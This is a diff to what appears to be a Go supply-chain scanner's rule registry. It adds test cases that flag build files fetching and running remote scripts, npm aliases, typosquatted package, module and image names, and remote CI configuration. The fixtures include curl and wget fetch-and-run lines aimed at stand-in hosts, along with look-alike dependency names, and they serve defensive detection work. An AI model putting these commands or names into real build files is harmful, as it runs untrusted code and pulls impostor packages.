@@ -90,6 +90,8 @@ var registry = []Rule{
 		{"tools.mk", "R := $(shell curl -s https://x.invalid/i.sh)\nall:\n\t@echo \"$(R)\" | sh", 3, false},
 		{"justfile", "u := \"https://x.invalid/f.sh\"\nfmt:\n    curl -fsSL {{u}} -o /tmp/f.sh\n    sh /tmp/f.sh", 4, false},
 		{"Taskfile.yml", "version: '3'\ntasks:\n  fmt:\n    cmds:\n      - wget -qO /tmp/f.sh https://x.invalid/f.sh\n      - cmd: bash /tmp/f.sh", 6, false},
+		{"Taskfile.yml", "version: '3'\nvars:\n  BOOT:\n    sh: curl -fsSL https://x.invalid/b.sh\ntasks:\n  x:\n    cmds:\n      - bash -c \"{{.BOOT}}\"", 8, false},
+		{"Taskfile.yml", "version: '3'\nvars:\n  V: {sh: \"curl -fsSL https://api.x.invalid/latest\"}\ntasks:\n  x:\n    cmds:\n      - echo \"{{.V}}\" > VERSION", 0, true},
 		// make's automatic variables: curl -o $@ writes the rule's target, which another rule runs.
 		{"Makefile", "BOOT := $(CURDIR)/.cache/boot.sh\n$(BOOT):\n\tcurl -fsSL https://x.invalid/boot.sh -o $@\ntools: $(BOOT)\n\tsh $(BOOT) --quiet", 5, false},
 		// A version read from the network is text, not code.
@@ -472,8 +474,11 @@ var registry = []Rule{
 			{"go.mod", "module x\n\nreplace github.com/boltdb/bolt => github.com/bolt-go/bolt v1.3.1", 3, false},
 			{"package-lock.json", "diff --git a/package-lock.json b/package-lock.json\n--- a/package-lock.json\n+++ b/package-lock.json\n@@ -1,2 +1,2 @@\n     \"node_modules/ms\": {\n-      \"resolved\": \"https://registry.npmjs.org/ms/-/ms-2.1.3.tgz\",\n+      \"resolved\": \"https://npm.x.invalid/ms/-/ms-2.1.3.tgz\",\n", 2, false},
 			{"go.mod", "module x\n\nreplace k8s.io/api => ./staging/src/k8s.io/api", 3, true},
+			// An npm alias puts another package under a well-known name.
+			{"package.json", "{\n  \"dependencies\": {\n    \"react\": \"npm:@react-community/react@18.2.0\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"dependencies\": {\n    \"react\": \"npm:@preact/compat@17.1.2\",\n    \"string-width-cjs\": \"npm:string-width@^4.2.0\",\n    \"lodash\": \"npm:lodash@4.17.21\"\n  }\n}", 0, true},
 		}},
-	{"lookalike-source", KindDependency, High, "names a look-alike of a well-known action, image or hook repository",
+	{"lookalike-source", KindDependency, High, "names a look-alike of a well-known package, module, action, image, orb or hook repository",
 		"a name one letter off a well-known one is how typosquatted code gets run", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actlons/checkout@v4", 4, false},
 			{"Dockerfile", "FROM pyth0n:3.12", 0, false},
@@ -481,6 +486,62 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/setup-nodes@v4", 4, false},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/setup-node@v4\n      - uses: github/codeql-action/init@v3", 5, true},
 			{"yarn.lock", "lodash@^4.17.21:\n  version \"4.17.21\"\n  resolved \"https://registry.yarnpkg.co/lodash/-/lodash-4.17.21.tgz#679591c5\"", 3, false},
+			{".circleci/config.yml", "version: 2.1\norbs:\n  aws: circleci-orbs/aws-cli@4.1.0\njobs: {}", 3, false},
+			// A module path: the repository's name under an owner with a
+			// word added or a letter changed, or on a host a letter off.
+			{"go.mod", "diff --git a/go.mod b/go.mod\n--- a/go.mod\n+++ b/go.mod\n@@ -5,2 +5,2 @@ require (\n+\tgithub.com/boltdb-go/bolt v1.3.1\n \tgithub.com/stretchr/testify v1.9.0\n-\tgo.etcd.io/bbolt v1.3.11\n", 5, false},
+			{"go.mod", "module x\n\nrequire github.com/siruspen/logrus v1.9.3", 3, false},
+			{"go.mod", "module x\n\nrequire (\n\tgithb.com/spf13/cobra v1.8.0\n)", 4, false},
+			{"go.mod", "module x\n\nreplace github.com/gin-gonic/gin => github.com/gin-gonlc/gin v1.9.1", 3, false},
+			// A requirement of pyproject.toml, in an array or Poetry's table.
+			{"pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\n    \"reqeusts>=2.31\",\n]", 4, false},
+			{"pyproject.toml", "[project.optional-dependencies]\ndev = [\"pytest\", \"pytset>=7\"]", 2, false},
+			{"pyproject.toml", "[tool.poetry.dependencies]\npython = \"^3.11\"\ndjanga = \"^5.0\"", 3, false},
+			{"pyproject.toml", "[project]\nname = \"request\"\nkeywords = [\"http\", \"request\"]\ndependencies = [\"requests>=2\", \"attrs\"]\n\n[tool.ruff]\nselect = [\"E\", \"F\"]", 0, true},
+			// Installed by name on the command line.
+			{"x.sh", "go install github.com/sirupsen-go/logrus/cmd/logrus@latest", 0, false},
+			{"x.sh", "cargo install serdde", 0, false},
+			{"x.sh", "npm i -D @typescript_eslinter/eslint", 0, false},
+			{"x.sh", "go install golang.org/x/tools/cmd/goimports@latest\ngo run ./cmd/gen\ncargo install cargo-deny --locked\nnpm i @types/node", 0, true},
+			// A crate, an npm scope, a Maven group id.
+			{"Cargo.toml", "[package]\nname = \"x\"\n\n[dependencies]\nserde = \"1\"\nrustdecimal = \"1.36\"", 6, false},
+			{"package.json", "{\n  \"devDependencies\": {\n    \"@typescript_eslinter/eslint\": \"^8.0.0\"\n  }\n}", 3, false},
+			{"pom.xml", "<dependency>\n  <groupId>org.fasterxml.jackson.core</groupId>\n  <artifactId>jackson-databind</artifactId>\n</dependency>", 2, false},
+			{"build.gradle.kts", "dependencies {\n    implementation(\"org.springframevvork.boot:spring-boot-starter:3.2.0\")\n}", 2, false},
+			{"Cargo.toml", "[package]\nname = \"serdde\"\n\n[dependencies]\nserde_json = \"1\"\narrow2 = \"0.18\"\ninstant = \"0.1\"\n\n[dependencies.tokio]\nversion = \"1\"", 0, true},
+			{"package.json", "{\n  \"dependencies\": {\n    \"@typescript-eslint/parser\": \"^7.0.0\",\n    \"@angular-eslint/builder\": \"^17.0.0\",\n    \"@aws-crypto/sha256-js\": \"^5.0.0\",\n    \"@acme/utils\": \"^1.0.0\"\n  }\n}", 0, true},
+			{"pom.xml", "<groupId>com.acme</groupId>\n<groupId>org.springframework.boot</groupId>\n<groupId>com.squareup.okhttp</groupId>\n<groupId>org.apache.maven.plugins</groupId>\n<groupId>io.github.someone</groupId>", 0, true},
+			{"go.mod", "module x\n\nrequire (\n\tgithub.com/sirupsen/logrus v1.9.3\n\tgithub.com/spf13/cobra-cli v1.3.0\n\tgithub.com/go-chi/chi/v5 v5.0.12\n\tgithub.com/redis/go-redis/v9 v9.5.1\n\tgithub.com/gofrs/uuid v4.4.0+incompatible\n\tgithub.com/pborman/uuid v1.2.1\n\tgo.uber.org/mock v0.4.0\n\tgitlab.com/acme/tools v1.0.0\n\tgithub.com/acme/bolt v0.1.0\n)", 0, true},
+			// A base image given by a build argument is judged by its value.
+			{"Dockerfile", "ARG BASE=docker.io/pyth0n-official/python:3.12-slim\nFROM ${BASE}\nRUN pip install .", 2, false},
+			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,2 +1,2 @@\n-ARG BASE_IMAGE=node:20-slim\n+ARG BASE_IMAGE=nodejs-official/node:20-slim\n FROM ${BASE_IMAGE} AS build\n", 1, false},
+			{".gitlab-ci.yml", "variables:\n  BUILD_IMAGE: pyth0n-official/python:3.12\ntest:\n  image: $BUILD_IMAGE\n  script: make test", 4, false},
+			{"docker-compose.yml", "services:\n  app:\n    image: ${APP_IMAGE:-pyth0n-official/python:3.12}", 3, false},
+			{".gitlab-ci.yml", "test:\n  image:\n    name: pyth0n-official/python:3.12\n    entrypoint: [\"\"]", 3, false},
+			{".buildkite/pipeline.yml", "steps:\n  - plugins:\n      - buildkite-plugin/docker#v5.9.0:\n          image: node:20", 3, false},
+			{"docker-compose.yml", "services:\n  app:\n    build:\n      context: .\n      args:\n        BASE_IMAGE: nodejs-official/node:20", 6, false},
+			{"Dockerfile", "ARG GO_VERSION=1.23\nARG BASE_IMAGE=docker.io/library/golang:1.23\nFROM ${BASE_IMAGE} AS build\nFROM golang:${GO_VERSION}\nFROM ${RUNTIME_IMAGE}", 0, true},
+		}},
+	{"ci-remote-config", KindCIFile, High, "takes pipeline configuration from outside the repository at run time",
+		"the CI system fetches it whenever the pipeline starts and runs it with the job's token and secrets; it is not in this diff, and its owner can change it after the review", []Case{
+			{".gitlab-ci.yml", "include:\n  - remote: https://ci-templates.x.invalid/python/latest.yml\n\ntest:\n  script: make test", 2, false},
+			{".gitlab-ci.yml", "include: 'https://ci-templates.x.invalid/python.yml'\ntest:\n  script: make test", 1, false},
+			{".gitlab-ci.yml", "deploy:\n  trigger:\n    include:\n      - 'https://raw.githubusercontent.com/someone/ci/main/deploy.yml'", 4, false},
+			{".gitlab-ci.yml", "include:\n  - component: gitlab.com/someone/ci-lint/lint@main", 2, false},
+			{".circleci/config.yml", "version: 2.1\norbs:\n  node: circleci/node@5.1.0\n  deploy: someone/deploy@volatile\njobs: {}", 4, false},
+			{"azure-pipelines.yml", "resources:\n  repositories:\n    - repository: templates\n      type: github\n      name: someone/pipeline-templates\n      endpoint: gh\nextends:\n  template: build.yml@templates", 5, false},
+			{"Jenkinsfile", "library identifier: 'ci@main', retriever: modernSCM(\n  [$class: 'GitSCMSource', remote: 'https://git.x.invalid/ci/pipeline-lib.git'])", 2, false},
+			{".gitlab-ci.yml", "variables:\n  TEMPLATES: https://ci.x.invalid/templates\ninclude:\n  - remote: $TEMPLATES/python.yml", 4, false},
+			{".buildkite/pipeline.yml", "steps:\n  - command: make test\n    plugins:\n      - docker#v5.9.0:\n          image: node:20\n      - someone/deploy-helper#main: ~", 6, false},
+			// The project's own files, GitLab's templates and components,
+			// another project of the same instance at a ref, a certified
+			// orb, a released orb, Azure Repos of the same organisation,
+			// a library the Jenkins administrator configured.
+			{".gitlab-ci.yml", "include:\n  - local: /ci/build.yml\n  - template: Security/SAST.gitlab-ci.yml\n  - project: acme/ci-templates\n    ref: v3.2.0\n    file: /python.yml\n  - component: $CI_SERVER_FQDN/acme/components/lint@1.0.0\n  - component: gitlab.com/components/secret-detection/secret-detection@1.1\n  - remote: $CI_SERVER_URL/acme/ci/-/raw/main/x.yml", 0, true},
+			{".circleci/config.yml", "version: 2.1\norbs:\n  node: circleci/node@5.1.0\n  codecov: codecov/codecov@3.3.0\njobs: {}", 0, true},
+			{".buildkite/pipeline.yml", "steps:\n  - command: make test\n    plugins:\n      - docker-compose#v5.2.0:\n          run: app\n      - buildkite-plugins/junit-annotate#v2.4.1: ~", 0, true},
+			{"azure-pipelines.yml", "resources:\n  repositories:\n    - repository: templates\n      type: git\n      name: Acme/PipelineTemplates", 0, true},
+			{"Jenkinsfile", "@Library('pipeline-library@main') _\nbuildPlugin()", 0, true},
 		}},
 	{"gradle-distribution", KindBuildFile, High, "Gradle wrapper downloads Gradle from somewhere else",
 		"gradlew downloads and runs the distribution it names, on every build", []Case{
